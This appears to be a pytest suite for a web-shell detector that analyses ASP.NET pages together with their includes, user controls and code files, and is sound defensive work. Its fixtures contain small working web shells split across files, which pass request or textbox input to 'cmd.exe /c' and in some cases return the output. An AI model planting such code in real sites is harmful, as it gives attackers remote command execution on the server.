"""Code a page pulls in from beside it: server-side includes (`<!-- #include -->`), user controls
(`<%@ Register Src %>`), source files compiled with the page (`<%@ Assembly Src %>`) and a code
file named by `CodeFile`/`Src`. The shells below are written for these tests: each is split so
that neither file alone shows the flow; each has a benign look-alike split the same way that must
stay below medium. The files are read from the evidence beside the page, never above its root
nor through a link."""

from __future__ import annotations

import itertools
import os
from pathlib import Path

import pytest

from code_support import medium_or_above
from exhunt.codeanalysis import analyze_code
from exhunt.codeanalysis.extract import MAX_REFERENCES, references
from exhunt.codeanalysis.report import Included
from exhunt.model import ProblemKind
from files_support import by_rule, hunt, server_file

PROCESS = "EXH-WS-CODE-PROCESS"
FILE_WRITE = "EXH-WS-CODE-FILE-WRITE"
APP = "C:\\inetpub\\wwwroot\\app\\"

PAGE = b"""<%@ Page Language="C#" %>
<!-- #include file="lib/run.inc" -->
<html><body>
<% Run(Request.Form["c"]); %>
</body></html>
"""
RUN_INC = b"""<script runat="server">
void Run(string c) {
    System.Diagnostics.Process.Start("cmd.exe", "/c " + c);
}
</script>
"""
# Look-alike: the include starts a fixed tool, the page passes a request value it only shows.
BENIGN_INC = b"""<script runat="server">
void Run(string c) {
    Response.Write(Server.HtmlEncode(c));
    System.Diagnostics.Process.Start("notepad.exe");
}
</script>
"""


def test_references_are_read_from_directives_and_includes() -> None:
    text = (
        '<%@ Page Language="C#" CodeFile="logic.cs" Inherits="P" %>\n'
        '<%@ Register TagPrefix="uc" TagName="Box" Src="~/controls/box.ascx" %>\n'
        '<%@ Assembly Src="util.cs" %>\n'
        '<!-- #include virtual="/inc/head.inc" -->\n'
        '<!--#include file="..\\common\\foot.inc"-->\n'
    )
    got = [(r.kind, r.path, r.line, r.virtual) for r in references(text)]
    assert got == [
        ("codefile", "logic.cs", 1, False),
        ("register", "~/controls/box.ascx", 2, True),
        ("assembly", "util.cs", 3, False),
        ("include", "/inc/head.inc", 4, True),
        ("include", "..\\common\\foot.inc", 5, False),
    ]


def test_a_shell_split_across_an_include_is_one_page() -> None:
    alone = analyze_code(PAGE, "p.aspx")
    assert PROCESS not in medium_or_above(alone)
    report = analyze_code(PAGE, "p.aspx", included=[Included("include", "lib/run.inc", 2, RUN_INC)])
    assert PROCESS in medium_or_above(report)
    cap = next(c for c in report.capabilities if c.rule_id == PROCESS)
    assert "form field 'c'" in cap.chain
    assert report.where(cap.line) == "lib/run.inc line 3"
    assert report.page_line(cap.line) == 2


def test_a_benign_include_of_the_same_shape_stays_quiet() -> None:
    report = analyze_code(PAGE, "p.aspx", included=[Included("include", "lib/run.inc", 2, BENIGN_INC)])
    assert medium_or_above(report) == []


def test_the_file_hunt_reads_the_include_beside_the_page(tmp_path: Path) -> None:
    page = server_file(tmp_path, APP + "p.aspx", PAGE)
    server_file(tmp_path, APP + "Lib\\Run.inc", RUN_INC)  # Windows names in another letter case
    found = by_rule(hunt(page))
    assert PROCESS in found
    assert "lib/run.inc line 3" in dict(found[PROCESS].details)["chain"]
    assert dict(found[PROCESS].details)["included_files"] == "lib/run.inc (named at line 2)"


def test_a_missing_include_is_no_problem_and_no_finding(tmp_path: Path) -> None:
    result = hunt(server_file(tmp_path, APP + "p.aspx", PAGE))
    assert PROCESS not in by_rule(result)
    assert not [e for e in result.errors if "run.inc" in e.message]


ASSEMBLY_PAGE = b"""<%@ Page Language="C#" %>
<%@ Assembly Src="helpers/util.cs" %>
<% Response.Write(new Util().Exec(Request["c"])); %>
"""
UTIL_CS = b"""using System.Diagnostics;
public class Util {
    public string Exec(string c) {
        var p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + c) { UseShellExecute = false, RedirectStandardOutput = true });
        return p.StandardOutput.ReadToEnd();
    }
}
"""
# Look-alike: a logger compiled with the page writes request text to a file the code names.
LOGGER_CS = b"""using System.IO;
public class Util {
    public string Exec(string c) {
        File.AppendAllText(System.Web.HttpContext.Current.Server.MapPath("~/App_Data/log.txt"), c);
        return "ok";
    }
}
"""


def test_a_class_compiled_with_the_page_takes_its_request_data(tmp_path: Path) -> None:
    page = server_file(tmp_path, APP + "a.aspx", ASSEMBLY_PAGE)
    server_file(tmp_path, APP + "helpers\\util.cs", UTIL_CS)
    found = by_rule(hunt(page))
    assert PROCESS in found
    assert "helpers/util.cs line 4" in dict(found[PROCESS].details)["chain"]


def test_a_logger_compiled_with_the_page_stays_below_medium(tmp_path: Path) -> None:
    page = server_file(tmp_path, APP + "a.aspx", ASSEMBLY_PAGE)
    server_file(tmp_path, APP + "helpers\\util.cs", LOGGER_CS)
    result = hunt(page)
    assert [f.rule_id for f in result.findings if f.severity.rank >= 2] == []


def test_flows_inside_the_compiled_file_alone_are_that_file_s_own() -> None:
    own = b"""public class Util {
    public void Save() {
        var r = System.Web.HttpContext.Current.Request;
        System.IO.File.WriteAllText(r["path"], r["data"]);
    }
}
"""
    page = b'<%@ Page Language="C#" %>\n<%@ Assembly Src="util.cs" %>\n<% new Util().Save(); %>\n'
    report = analyze_code(page, "a.aspx", included=[Included("assembly", "util.cs", 2, own)])
    assert FILE_WRITE not in medium_or_above(report)


CODEFILE_PAGE = b"""<%@ Page Language="C#" CodeFile="logic.cs" Inherits="Tools" %>
<form runat="server"><asp:TextBox ID="CmdBox" runat="server" /><asp:Button ID="Go" runat="server" OnClick="Go_Click" /></form>
"""
LOGIC_CS = b"""using System;
public partial class Tools : System.Web.UI.Page {
    protected void Go_Click(object sender, EventArgs e) {
        System.Diagnostics.Process.Start("cmd.exe", "/c " + CmdBox.Text);
    }
}
"""


def test_a_code_file_under_another_name_reads_the_page_s_controls(tmp_path: Path) -> None:
    page = server_file(tmp_path, APP + "tools.aspx", CODEFILE_PAGE)
    server_file(tmp_path, APP + "logic.cs", LOGIC_CS)
    assert PROCESS in by_rule(hunt(page))
    benign = LOGIC_CS.replace(b'"/c " + CmdBox.Text', b'"/c ver"')
    (tmp_path / "C/inetpub/wwwroot/app/logic.cs").write_bytes(benign)
    assert [f.rule_id for f in hunt(page).findings if f.severity.rank >= 2] == []


def test_a_user_control_registered_from_the_site_root(tmp_path: Path) -> None:
    page = b"""<%@ Page Language="C#" %>
<%@ Register TagPrefix="uc" TagName="Box" Src="~/controls/box.ascx" %>
<% Box.Run(Request.QueryString["q"]); %>
"""
    control = b"""<%@ Control Language="C#" ClassName="Box" %>
<script runat="server">
public static void Run(string q) { System.Diagnostics.Process.Start("cmd.exe", "/c " + q); }
</script>
"""
    found = server_file(tmp_path, APP + "sub\\p.aspx", page)
    server_file(tmp_path, APP + "controls\\box.ascx", control)
    assert PROCESS in by_rule(hunt(found))


def test_an_include_that_leaves_the_evidence_is_a_problem(tmp_path: Path) -> None:
    page = PAGE.replace(b"lib/run.inc", b"../../../../../../etc/run.inc")
    result = hunt(server_file(tmp_path, APP + "p.aspx", page))
    problems = [e for e in result.errors if "outside the evidence" in e.message]
    assert problems and problems[0].kind == ProblemKind.PARTIAL


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="no symbolic links here")
def test_an_include_through_a_link_is_refused(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "run.inc").write_bytes(RUN_INC)
    evidence = tmp_path / "evidence"
    page = server_file(evidence, APP + "p.aspx", PAGE)
    os.symlink(outside, evidence / "C/inetpub/wwwroot/app/lib")
    result = hunt(page)
    assert PROCESS not in by_rule(result)
    assert [e for e in result.errors if "link" in e.message and e.kind == ProblemKind.PARTIAL]
    # the file itself a link: refused by the evidence reader
    os.unlink(evidence / "C/inetpub/wwwroot/app/lib")
    (evidence / "C/inetpub/wwwroot/app/lib").mkdir()
    os.symlink(outside / "run.inc", evidence / "C/inetpub/wwwroot/app/lib/run.inc")
    result = hunt(page)
    assert PROCESS not in by_rule(result)
    assert [e for e in result.errors if "run.inc" in e.message and "not read" in e.message]


def test_an_unreadable_include_is_a_problem_of_the_page(tmp_path: Path) -> None:
    page = server_file(tmp_path, APP + "p.aspx", PAGE)
    server_file(tmp_path, APP + "lib\\run.inc", RUN_INC + b"<p>" + b"x" * len(PAGE) + b"</p>")
    big = hunt(page, max_file_size=len(PAGE) + 1)
    assert [e for e in big.errors if "larger than the file size limit" in e.message]
    target = tmp_path / "C/inetpub/wwwroot/app/lib/run.inc"
    target.unlink()
    os.mkfifo(target)
    result = hunt(page)
    assert [e for e in result.errors if "run.inc" in e.message and e.kind == ProblemKind.PARTIAL]


def test_a_page_with_a_registered_control_is_not_a_stub_for_a_planted_class() -> None:
    """An editor's connector page: no code of its own, a class from the editor's assembly, and
    a registered control whose code creates the editor's objects."""
    page = (
        b'<%@ Page Language="c#" Inherits="Editor.FileBrowser.Connector" AutoEventWireup="false" %>\n'
        b'<%@ Register Src="config.ascx" TagName="Config" TagPrefix="Ed" %>\n<Ed:Config runat="server" />\n'
        b"<%-- " + b"Licensed under the terms of the editor's licence. " * 12 + b"--%>\n"
    )
    control = (
        b'<%@ Control Language="c#" Inherits="Editor.FileBrowser.Config" %>\n'
        b'<script runat="server">\nprivate bool CheckAuthentication() { return new Editor.Auth.Checker().Ok(this); }\n</script>\n'
    )
    alone = analyze_code(page, "connector.aspx")
    joined = analyze_code(page, "connector.aspx", included=[Included("register", "config.ascx", 2, control)])
    assert alone.capabilities == []
    assert joined.capabilities == []


def test_files_named_past_the_limit_are_a_problem_not_a_silent_gap(tmp_path: Path) -> None:
    """A page naming more files than are read with it says so; the last one holds the shell's
    half, so the page alone shows no flow, and the problem names the first file left out."""
    names = [f"part{n}.inc" for n in range(MAX_REFERENCES)] + ["run.inc"]
    page = b'<%@ Page Language="C#" %>\n' + b"".join(f'<!-- #include file="lib/{n}" -->\n'.encode() for n in names)
    page += b'<% Run(Request.Form["c"]); %>\n'
    path = server_file(tmp_path, APP + "p.aspx", page)
    for n in names[:-1]:
        server_file(tmp_path, APP + "lib\\" + n, b"<p>part</p>\n")
    server_file(tmp_path, APP + "lib\\run.inc", RUN_INC)
    result = hunt(path)
    said = [e for e in result.errors if "not read with it" in e.message and "lib/run.inc" in e.message]
    assert said and said[0].kind == ProblemKind.PARTIAL and said[0].path.endswith("p.aspx")
    # one file fewer: every file is read, the flow is the page's, and nothing is said
    fewer = page.replace(b'<!-- #include file="lib/part0.inc" -->\n', b"")
    result = hunt(server_file(tmp_path, APP + "p.aspx", fewer))
    assert PROCESS in by_rule(result)
    assert not [e for e in result.errors if "not read with it" in e.message]


def test_includes_nested_past_the_depth_are_a_problem(tmp_path: Path) -> None:
    page = b'<%@ Page Language="C#" %>\n<!-- #include file="lib/a.inc" -->\n<% Run(Request.Form["c"]); %>\n'
    path = server_file(tmp_path, APP + "p.aspx", page)
    chain = ["a.inc", "b.inc", "c.inc", "run.inc"]
    for here, there in itertools.pairwise(chain):
        server_file(tmp_path, APP + "lib\\" + here, f'<!-- #include file="{there}" -->\n'.encode())
    server_file(tmp_path, APP + "lib\\run.inc", RUN_INC)
    result = hunt(path)
    assert PROCESS not in by_rule(result)
    said = [e for e in result.errors if "at a depth past" in e.message]
    assert said and said[0].kind == ProblemKind.PARTIAL and "c.inc" in said[0].message


SCRIPT_PAGE = b"""<%@ Page Language="C#" %>
<script src="/js/jquery.js"></script>
<script runat="server" src="lib/tools.cs"></script>
<html><body><form runat="server"><asp:Label ID="o" runat="server" /></form></body></html>
"""
TOOLS_CS = b"""protected void Page_Load(object sender, EventArgs e) {
    var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]);
    psi.UseShellExecute = false;
    psi.RedirectStandardOutput = true;
    o.Text = System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd();
}
"""
# Look-alike: the script file shows the query it is given and starts a fixed tool.
FORMAT_CS = b"""protected void Page_Load(object sender, EventArgs e) {
    o.Text = Server.HtmlEncode(Request.QueryString["q"]);
    System.Diagnostics.Process.Start(Server.MapPath("~/bin/thumbs.exe"));
}
"""


def test_a_server_script_block_names_its_code_file() -> None:
    # The code declaration block's `src`: the members come from that file; a browser script's `src` is no code.
    assert [(r.kind, r.path, r.line) for r in references(SCRIPT_PAGE.decode())] == [("script", "lib/tools.cs", 3)]
    closed = '<script language="VB" src="~/code/run.vb" runat="server" />'  # the documented self-closing form
    assert [(r.kind, r.path, r.virtual) for r in references(closed)] == [("script", "~/code/run.vb", True)]


def test_a_quoted_bracket_in_a_server_script_tag_keeps_its_src() -> None:
    # As the page parser reads the tag (and as the page's script blocks are read): a quoted value
    # may hold `>`, so `runat` and `src` after it are still the tag's.
    page = '<%@ Page Language="C#" %>\n<script title="a>b" runat="server" src="lib/tools.cs"></script>'
    assert [(r.kind, r.path, r.line) for r in references(page)] == [("script", "lib/tools.cs", 2)]
    # A client script's quoted `>` does not make a later attribute a server tag's.
    client = '<script title="x>y" src="app.js"></script>\n<script runat="server" src="b.cs" />'
    assert [(r.kind, r.path, r.line) for r in references(client)] == [("script", "b.cs", 2)]


def test_the_file_hunt_reads_a_server_script_s_src(tmp_path: Path) -> None:
    page = server_file(tmp_path, APP + "s.aspx", SCRIPT_PAGE)
    server_file(tmp_path, APP + "lib\\tools.cs", TOOLS_CS)
    found = by_rule(hunt(page))
    assert PROCESS in found
    assert "lib/tools.cs line" in dict(found[PROCESS].details)["chain"]


def test_a_benign_server_script_src_stays_below_medium(tmp_path: Path) -> None:
    page = server_file(tmp_path, APP + "s.aspx", SCRIPT_PAGE)
    server_file(tmp_path, APP + "lib\\tools.cs", FORMAT_CS)
    result = hunt(page)
    assert [f.rule_id for f in result.findings if f.severity.rank >= 2 and f.rule_id.startswith("EXH-WS-CODE")] == []
